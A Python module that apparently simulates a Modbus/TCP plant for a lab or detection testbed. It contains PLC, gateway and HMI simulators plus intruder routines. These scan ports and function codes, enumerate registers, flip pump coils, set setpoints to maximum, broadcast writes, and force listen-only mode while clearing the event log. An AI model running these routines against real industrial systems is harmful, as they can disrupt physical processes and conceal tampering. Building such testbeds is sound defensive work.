"""Modbus/TCP devices, a polling client and an intruder, on pymodbus and plain sockets."""

from __future__ import annotations

import asyncio
import contextlib
import socket
import struct
import time
from collections.abc import Mapping, Sequence
from types import MappingProxyType

from plant import STRETCH, pause


def server(name: str, holding: Sequence[int], coils: Sequence[bool], port: int = 502) -> None:
    """A PLC: pymodbus's server, which obeys 08/04 (fall silent) and 08/01 (speak again) as the standard wants."""
    from pymodbus import ModbusDeviceIdentification
    from pymodbus.datastore import ModbusDeviceContext, ModbusSequentialDataBlock, ModbusServerContext
    from pymodbus.server import StartAsyncTcpServer

    listen_only = False
    asked = 0

    def trace_packet(sending: bool, data: bytes) -> bytes:
        nonlocal listen_only, asked
        if not sending and len(data) >= 8:
            asked = data[7]
        if not sending and len(data) >= 10 and asked == 8:
            sub = int.from_bytes(data[8:10], "big")
            listen_only = sub == 4 or (listen_only and sub != 1)
        if sending and data[7:8] == b"\x80":
            # pymodbus forgets which function it does not know; 7 of the same standard wants it in the answer
            data = data[:7] + bytes([asked | 0x80]) + data[8:]
        # MODBUS Application Protocol V1.1b3, 6.8: in Listen Only Mode no response is returned
        return b"" if sending and listen_only else data

    device = ModbusDeviceContext(
        co=ModbusSequentialDataBlock(1, list(coils)),
        di=ModbusSequentialDataBlock(1, [bool(i % 3) for i in range(32)]),
        hr=ModbusSequentialDataBlock(1, list(holding)),
        ir=ModbusSequentialDataBlock(1, [400 + 7 * i for i in range(32)]),
    )
    identity = ModbusDeviceIdentification(
        info_name={"VendorName": "Example PLC", "ProductCode": "EP-100", "MajorMinorRevision": "2.7", "ModelName": name}
    )
    asyncio.run(
        StartAsyncTcpServer(
            ModbusServerContext(devices=device, single=True),
            identity=identity,
            address=("0.0.0.0", port),
            trace_packet=trace_packet,
            broadcast_enable=True,
        )
    )


def gateway(units: int, lost: Sequence[int], lose_at: float) -> None:
    """A gateway to serial devices; from story second ``lose_at`` on, the ``lost`` ones do not answer it any more."""
    from pymodbus.datastore import ModbusDeviceContext, ModbusSequentialDataBlock, ModbusServerContext
    from pymodbus.pdu import ExceptionResponse, ModbusPDU
    from pymodbus.server import StartAsyncTcpServer

    began = time.monotonic()

    def trace_pdu(sending: bool, pdu: ModbusPDU) -> ModbusPDU:
        if not sending or pdu.dev_id not in lost or (time.monotonic() - began) * STRETCH < lose_at:
            return pdu
        answer = ExceptionResponse(pdu.function_code, 11)  # gateway target device failed to respond
        answer.dev_id, answer.transaction_id = pdu.dev_id, pdu.transaction_id
        return answer

    devices = {
        unit: ModbusDeviceContext(
            co=ModbusSequentialDataBlock(1, [False] * 16),
            hr=ModbusSequentialDataBlock(1, [100 * unit + i for i in range(32)]),
            ir=ModbusSequentialDataBlock(1, [200 * unit + i for i in range(32)]),
        )
        for unit in range(1, units + 1)
    }
    context = ModbusServerContext(devices=devices, single=False)
    asyncio.run(StartAsyncTcpServer(context, address=("0.0.0.0", 502), trace_pdu=trace_pdu))


def poll(
    targets: Sequence[tuple[str, float]],
    writes: Sequence[tuple[float, str, int, int]] = (),
    units: Mapping[str, Sequence[int]] = MappingProxyType({}),
) -> None:
    """An HMI: reads coils, inputs and registers of each target every so many seconds; writes at given times.

    Args:
        targets: Address and period in story seconds.
        writes: Story second, address, register, value: what the operator sets; register -n is coil n - 1.
        units: Units behind an address, where it is not unit 1 alone.
    """
    asyncio.run(_poll(targets, list(writes), units))


async def _poll(
    targets: Sequence[tuple[str, float]], writes: list[tuple[float, str, int, int]], units: Mapping[str, Sequence[int]]
) -> None:
    from pymodbus.client import AsyncModbusTcpClient
    from pymodbus.exceptions import ModbusException

    loop = asyncio.get_running_loop()
    began = loop.time()

    async def one(address: str, period: float) -> None:
        client = AsyncModbusTcpClient(address, timeout=0.3, retries=0, reconnect_delay=0.1, reconnect_delay_max=0.5)
        await client.connect()
        mine = sorted(w for w in writes if w[1] == address)
        due = loop.time()
        while True:
            try:
                for unit in units.get(address, (1,)):
                    await client.read_holding_registers(0, count=10, device_id=unit)
                    await client.read_input_registers(0, count=8, device_id=unit)
                    await client.read_coils(0, count=8, device_id=unit)
                if mine and (loop.time() - began) * STRETCH >= mine[0][0]:
                    _, _, register, value = mine.pop(0)
                    if register < 0:
                        await client.write_coil(-register - 1, bool(value), device_id=1)
                    else:
                        await client.write_register(register, value, device_id=1)
            except ModbusException:
                if not client.connected:
                    await client.connect()
            due += period / STRETCH
            await asyncio.sleep(max(0.0, due - loop.time()))

    await asyncio.gather(*(one(*target) for target in targets))


class Raw:
    """A client that sends whatever it is told."""

    def __init__(self, address: str, port: int = 502, timeout: float = 0.3) -> None:
        self.socket = socket.create_connection((address, port), timeout)
        self.socket.settimeout(timeout)
        self.transaction = 0

    def ask(self, pdu: bytes, unit: int = 1, *, wait: bool = True) -> bytes:
        """Send a PDU under an MBAP header and return the answer, or nothing after the time-out."""
        self.transaction += 1
        self.socket.sendall(struct.pack(">HHHB", self.transaction, 0, len(pdu) + 1, unit) + pdu)
        try:
            return self.socket.recv(4096) if wait else b""
        except TimeoutError:
            return b""

    def close(self) -> None:
        """Hang up."""
        self.socket.close()


def port_scan(address: str, ports: Sequence[int], gap: float = 0.2) -> None:
    """Connect to each port once."""
    for port in ports:
        with contextlib.suppress(OSError):
            socket.create_connection((address, port), 0.15).close()
        pause(gap)


def host_sweep(addresses: Sequence[str], port: int) -> None:
    """Ask many addresses for one port; most are not there, so ARP goes unanswered."""
    for address in addresses:
        sock = socket.socket()
        sock.setblocking(False)
        sock.connect_ex((address, port))
        pause(0.5)
        sock.close()


def function_scan(address: str) -> None:
    """All function codes from 1 to 126, with a body that fits many of them."""
    raw = Raw(address, timeout=0.15)
    for code in range(1, 127):
        if code in (5, 6, 8, 15, 16, 21, 22, 23):  # would change something: asked with a body that cannot
            raw.ask(bytes([code]) + b"\xff\xf0")
        else:
            raw.ask(bytes([code]) + b"\x00\x00\x00\x01")
        pause(0.3)
    raw.close()


def identify(address: str) -> None:
    """Device identification, basic to extended, and server id; then a walk over the registers until they end."""
    raw = Raw(address)
    for level in (1, 2, 3):
        raw.ask(bytes([0x2B, 0x0E, level, 0]))
        pause(1)
    raw.ask(b"\x11")
    for start in range(0, 4000, 100):
        raw.ask(struct.pack(">BHH", 3, start, 10))
        pause(0.3)
    raw.close()


def brute_force(address: str, rounds: int = 12) -> None:
    """Switch all pumps on and off, set points to the stop."""
    raw = Raw(address)
    for turn in range(rounds):
        for coil in range(6):
            raw.ask(struct.pack(">BHH", 5, coil, 0xFF00 if (turn + coil) % 2 else 0))
            pause(0.2)
    for register in range(10):
        raw.ask(struct.pack(">BHH", 6, register, 65535))
        pause(0.2)
    raw.ask(struct.pack(">BHHB", 15, 0, 8, 1) + b"\xff")
    raw.ask(struct.pack(">BHHBHHHH", 16, 0, 4, 8, 0, 65535, 0, 65535))
    raw.ask(struct.pack(">BHH", 5, 0, 0), unit=0, wait=False)  # to every unit behind a gateway
    pause(1)
    raw.close()


def silence(address: str, seconds: float) -> None:
    """Force listen-only mode: the PLC goes on working and says nothing; restart communications ends it."""
    raw = Raw(address, timeout=0.2)
    raw.ask(struct.pack(">BHH", 8, 10, 0))  # clear counters and diagnostic register
    raw.ask(struct.pack(">BHH", 8, 4, 0))
    pause(seconds)
    raw.ask(struct.pack(">BHH", 8, 1, 0))
    pause(2)
    raw.ask(struct.pack(">BHH", 8, 1, 0xFF00))  # and clear the log of communication events
    pause(2)
    raw.close()
